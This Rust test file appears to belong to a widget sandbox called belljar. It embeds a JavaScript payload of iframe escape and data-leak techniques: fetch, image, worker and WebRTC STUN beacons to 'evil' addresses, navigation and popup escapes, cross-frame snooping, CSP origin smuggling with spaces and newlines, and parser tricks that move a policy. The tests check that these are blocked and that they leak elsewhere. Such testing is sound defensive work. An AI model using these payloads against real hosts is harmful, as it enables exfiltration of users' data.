//! Every way out that was measured in other hosts' frames: shown to work there, and closed here.

use std::net::UdpSocket;
use std::time::Duration;

use anyhow::Result;
use belljar_browsers::{Browser, Engine};
use serde_json::{Value, json};

use super::layouts::{Layout, Layouts};
use super::{Stage, VIEW};

/// What a hostile view can do with an address. Each gives back how it ended, if it did.
const ATTACKS: &str = "<p id=mine>MINE</p><script>
    const event = (target, ...names) => new Promise((ok) => { for (const name of names) target['on' + name] = ok; setTimeout(ok, 1000) });
    const run = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
    const ways = {
        fetch: (to) => fetch(to, { mode: 'no-cors' }),
        image: (to) => { const image = new Image(); image.src = to; return event(image, 'load', 'error') },
        prefetch: (to) => { const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: to }); document.head.append(link); return event(link, 'load', 'error') },
        worker: (to) => event(new Worker(run(`fetch(${JSON.stringify(to)}, { mode: 'no-cors' }).finally(() => postMessage(1))`)), 'message', 'error'),
        borrowed: (to) => parent.fetch(to, { mode: 'no-cors' }),
        itself: (to) => { setTimeout(() => { location.href = to }) },
        proxy: (to) => {
            const script = parent.document.createElement('script');
            script.textContent = `setTimeout(() => { location.href = ${JSON.stringify(to)} })`;
            parent.document.body.append(script);
        },
        form: (to) => { const form = Object.assign(document.createElement('form'), { action: to }); document.body.append(form); setTimeout(() => form.submit()) },
        parent: (to) => { setTimeout(() => { parent.location.href = to }) },
        top: (to) => { setTimeout(() => { top.location.href = to }) },
        popup: (to) => { if (!window.open(to)) throw new Error('no window') },
        peer: async (to) => {
            const peer = new RTCPeerConnection({ iceServers: [{ urls: to }] });
            peer.createDataChannel('out');
            await peer.setLocalDescription(await peer.createOffer());
            await new Promise((ok) => setTimeout(ok, 1000));
            peer.close();
        },
        others: async () => {
            const seen = [];
            const look = (window) => { try { seen.push(window.document.getElementById('mine').textContent) } catch {} };
            const into = (window) => { for (let n = 0; n < window.length; n++) { look(window[n]); into(window[n]) } };
            into(top);
            return seen;
        },
        keep: async (word) => { localStorage.setItem('kept', word); return localStorage.getItem('kept') },
        find: async () => localStorage.getItem('kept'),
    };
    globalThis.attack = async (way, to) => { try { return (await ways[way](to)) ?? 'done' } catch (error) { return error.name } };
</script>";

fn hostile() -> String {
    format!("{VIEW}{}", ATTACKS.replace("MINE", "the first's"))
}

/// Belljar's page with a widget of that text.
fn show(stage: &Stage, browser: &Browser, html: &str, options: &Value) -> Result<Value> {
    stage.page(
        browser,
        "heard.length = 0;
         await show({ html: args.html, ...args.options, onToolCall: note('tool', { content: [] }), onLost: note('lost') });
         return widget.refused",
        json!({ "html": html, "options": options }),
    )
}

/// What the attack said: `gone` where it had left before its answer came.
fn attack(stage: &Stage, browser: &Browser, way: &str, to: &str) -> Result<Value> {
    stage.enter(browser)?;
    said(browser, way, to)
}

/// The same in a widget of another host's.
fn attack_there(browser: &Browser, way: &str, to: &str) -> Result<Value> {
    browser.enter_frame("main > :last-child iframe")?;
    browser.enter_frame("iframe")?;
    said(browser, way, to)
}

fn said(browser: &Browser, way: &str, to: &str) -> Result<Value> {
    let said = browser.run_and_leave("return await attack(args[0], args[1])", json!([way, to]));
    browser.top_frame()?;
    Ok(said?.unwrap_or_else(|| json!("gone")))
}

/// Nothing that is on its way needs longer to arrive here.
fn rest() {
    std::thread::sleep(Duration::from_millis(300));
}

/// Requests that the widget makes, and those it lets its parent make.
pub(crate) fn no_request_leaves(browser: &Browser) -> Result<()> {
    const WAYS: [(&str, Layout); 5] = [
        ("fetch", Layout::Open),
        ("image", Layout::Open),
        ("prefetch", Layout::Open),
        ("worker", Layout::Open),
        ("borrowed", Layout::C),
    ];
    let (layouts, stage) = (Layouts::start()?, Stage::open(browser)?);
    show(&stage, browser, &hostile(), &json!({}))?;
    for (way, _) in WAYS {
        attack(&stage, browser, way, &layouts.evil(way))?;
    }
    rest();
    assert_eq!(layouts.leaks(), Vec::<String>::new());

    layouts.open(browser)?;
    for (way, layout) in WAYS {
        layouts.show(browser, layout, &hostile(), &json!([]))?;
        let said = attack_there(browser, way, &layouts.evil(way))?;
        // WebKitGTK knows no prefetch.
        let deaf = way == "prefetch" && browser.engine() == Engine::WebKit;
        assert!(deaf || layouts.leaked(way), "{way} leaks nowhere: {said}");
    }
    Ok(())
}

/// A policy that is put in by search lands where the widget wants it. A header does not.
pub(crate) fn no_text_moves_the_policy(browser: &Browser) -> Result<()> {
    const TRICKS: [(&str, &str, &str); 4] = [
        ("comment", "<!-- <head> --><head></head>", ""),
        ("title", "<title><head></title>", ""),
        ("string", "<script>'<head>'</script><head></head>", ""),
        ("early", "", "<head></head>"),
    ];
    let layouts = Layouts::start()?;
    let tricked = |name: &str, before: &str, after: &str| {
        let leak = format!("<script>fetch('{}', {{ mode: 'no-cors' }}).catch(() => {{}})</script>", layouts.evil(name));
        format!("{before}{leak}{after}{VIEW}")
    };
    let stage = Stage::open(browser)?;
    for (name, before, after) in TRICKS {
        show(&stage, browser, &tricked(name, before, after), &json!({}))?;
    }
    rest();
    assert_eq!(layouts.leaks(), Vec::<String>::new());

    layouts.open(browser)?;
    for (name, before, after) in TRICKS {
        layouts.show(browser, Layout::D, &tricked(name, before, after), &json!([]))?;
        assert!(layouts.leaked(name), "{name} leaks nowhere");
    }
    // Where the widget plays no trick, the same policy holds: it is the trick that leaks.
    layouts.show(browser, Layout::D, &tricked("plain", "<html><head></head>", ""), &json!([]))?;
    rest();
    assert!(!layouts.leaks().contains(&"/plain".to_owned()));
    Ok(())
}

/// Domains that mean more than one host, or smuggle a second one in.
pub(crate) fn no_domain_means_everything(browser: &Browser) -> Result<()> {
    let (layouts, stage) = (Layouts::start()?, Stage::open(browser)?);
    let origin = layouts.evil("").trim_end_matches('/').to_owned();
    let entries = [
        ("star", "*".to_owned()),
        ("scheme", "http:".to_owned()),
        ("space", format!("https://a.example {origin}")),
        ("line", format!("https://a.example\n{origin}")),
    ];
    for (name, entry) in &entries {
        let refused = show(&stage, browser, &hostile(), &json!({ "ui": { "csp": { "connectDomains": [entry] } } }))?;
        let codes: Vec<_> = refused.as_array().into_iter().flatten().map(|one| (&one["path"], &one["code"])).collect();
        assert!(!codes.is_empty(), "{name} is dropped without a word");
        let given: Value =
            stage.inside(browser, "return begun.result.hostCapabilities.sandbox.csp.connectDomains", ())?;
        assert_eq!(given, json!([]), "{name}: {codes:?}");
        attack(&stage, browser, "fetch", &layouts.evil(name))?;
    }
    rest();
    assert_eq!(layouts.leaks(), Vec::<String>::new());

    layouts.open(browser)?;
    for (name, entry) in &entries {
        layouts.show(browser, Layout::D, &hostile(), &json!([entry]))?;
        attack_there(browser, "fetch", &layouts.evil(name))?;
        // WebKit reads a line's end inside a source as a part of it.
        let deaf = *name == "line" && browser.engine() == Engine::WebKit;
        assert!(deaf || layouts.leaked(name), "{name} leaks nowhere");
    }
    Ok(())
}

/// Going somewhere tells the address, and what comes back would be somebody else in the widget's place.
pub(crate) fn nobody_goes_anywhere(browser: &Browser) -> Result<()> {
    let (layouts, stage) = (Layouts::start()?, Stage::open(browser)?);
    for way in ["itself", "proxy", "form", "parent", "top", "popup"] {
        show(&stage, browser, &hostile(), &json!({}))?;
        attack(&stage, browser, way, &layouts.evil(way))?;
        if way == "itself" {
            let reason: String =
                browser.wait_for("return heard.find(([what]) => what === 'lost')?.[1].reason ?? null", ())?;
            assert_eq!(reason, "navigated");
            assert_eq!(browser.run::<String>("return widget.state", ())?, "lost");
        }
    }
    rest();
    assert_eq!(layouts.leaks(), Vec::<String>::new());
    assert_eq!(browser.url()?, stage.site.url("localhost", "/"));
    assert_eq!(browser.windows()?.len(), 1);

    // Controls, each in the layout that lets it out; the last three leave pages behind that must be opened anew.
    let rows = [
        ("itself", Layout::D),
        ("proxy", Layout::B),
        ("proxy-of-c", Layout::C),
        ("form", Layout::D),
        ("parent", Layout::Open),
    ];
    for (name, layout) in rows {
        layouts.open(browser)?;
        layouts.show(browser, layout, &hostile(), &json!([]))?;
        let said = attack_there(browser, name.trim_end_matches("-of-c"), &layouts.evil(name))?;
        assert!(layouts.leaked(name), "{name} leaks nowhere: {said}");
    }
    top_of_the_page(browser, &layouts)
}

/// A page's own frame, without limits, takes the whole page away, and opens windows.
fn top_of_the_page(browser: &Browser, layouts: &Layouts) -> Result<()> {
    for way in ["popup", "top"] {
        layouts.open(browser)?;
        browser.run::<()>(
            "const frame = document.createElement('iframe');
             frame.srcdoc = args;
             const loaded = new Promise((ok) => { frame.onload = ok });
             document.body.append(frame);
             await loaded",
            hostile(),
        )?;
        browser.enter_frame("iframe")?;
        let said = said(browser, way, &layouts.evil(way))?;
        // WebKitGTK opens no window without a gesture, whoever asks.
        let deaf = way == "popup" && browser.engine() == Engine::WebKit;
        assert!(deaf || layouts.leaked(way), "{way} leaks nowhere: {said}");
    }
    Ok(())
}

/// A page that has come into the widget's frame asks for a tool. A host that looks at the window alone answers it.
pub(crate) fn no_foreign_page_is_answered(browser: &Browser) -> Result<()> {
    let (layouts, stage) = (Layouts::start()?, Stage::open(browser)?);
    show(&stage, browser, &hostile(), &json!({}))?;
    attack(&stage, browser, "itself", &layouts.evil("takes-over"))?;
    let lost = "return heard.filter(([what]) => what === 'lost').length === 1 && heard.length";
    assert_eq!(browser.wait_for::<usize>(lost, ())?, 1, "nobody called a tool");
    rest();
    assert_eq!(layouts.leaks(), Vec::<String>::new());

    layouts.open(browser)?;
    layouts.show(browser, Layout::D, &hostile(), &json!([]))?;
    attack_there(browser, "itself", &layouts.evil("takes-over"))?;
    assert!(layouts.leaked("secret"), "the foreign page got no answer: {:?}", layouts.leaks());
    Ok(())
}

/// Packets to a chosen host. Where an engine cannot stop them, `jar.guarantees` says so.
pub(crate) fn packets_stay_or_are_said_to_leave(browser: &Browser) -> Result<()> {
    let (layouts, stage) = (Layouts::start()?, Stage::open(browser)?);
    let sink = UdpSocket::bind("127.0.0.1:0")?;
    sink.set_read_timeout(Some(Duration::from_millis(500)))?;
    let address = format!("stun:127.0.0.1:{}", sink.local_addr()?.port());
    let arrived = || sink.recv(&mut [0; 1_500]).is_ok();
    show(&stage, browser, &hostile(), &json!({}))?;
    let said = attack(&stage, browser, "peer", &address)?;
    let closed: bool =
        browser.run("return jar.guarantees.widget.find(({ channel }) => channel === 'webrtc').closed", ())?;
    assert_eq!(closed, browser.engine() == Engine::Chromium);
    let out = arrived();
    assert!(!(closed && out), "a packet left: {said}");
    while arrived() {}

    layouts.open(browser)?;
    layouts.show(browser, Layout::D, &hostile(), &json!([]))?;
    let said = attack_there(browser, "peer", &address)?;
    // Without peer connections in the build there is nothing to send with.
    assert!(arrived() || said == "ReferenceError" || !closed, "the probe is deaf: {said}");
    Ok(())
}

/// What one widget shows and keeps, another cannot see.
pub(crate) fn widgets_are_strangers(browser: &Browser) -> Result<()> {
    let (layouts, stage) = (Layouts::start()?, Stage::open(browser)?);
    let second = || hostile().replace("the first's", "the second's");
    for storage in ["opaque", "own"] {
        let options = json!({ "policy": { "sandbox": { "storage": storage } } });
        show(&stage, browser, &hostile(), &options)?;
        let kept = attack(&stage, browser, "keep", "a word")?;
        show(&stage, browser, &second(), &options)?;
        let seen = (attack(&stage, browser, "others", "")?, attack(&stage, browser, "find", "")?);
        assert_eq!(seen.0, json!([]), "{storage}: it finds no frame, not even its own");
        let blind = if storage == "opaque" || kept == "SecurityError" { json!("SecurityError") } else { json!("done") };
        assert_eq!(seen.1, blind, "{storage}: the first kept {kept}");
        stage.page::<()>(browser, "document.querySelector('main').replaceChildren()", json!({}))?;
    }

    for layout in [Layout::A, Layout::B, Layout::C] {
        layouts.open(browser)?;
        layouts.show(browser, layout, &hostile(), &json!([]))?;
        let kept = attack_there(browser, "keep", "a word")?;
        layouts.show(browser, layout, &second(), &json!([]))?;
        let seen = attack_there(browser, "others", "")?;
        assert_eq!(seen, json!(["the first's", "the second's"]), "{layout:?}");
        if matches!(layout, Layout::A) {
            assert_eq!((kept, attack_there(browser, "find", "")?), (json!("a word"), json!("a word")));
        }
    }
    Ok(())
}
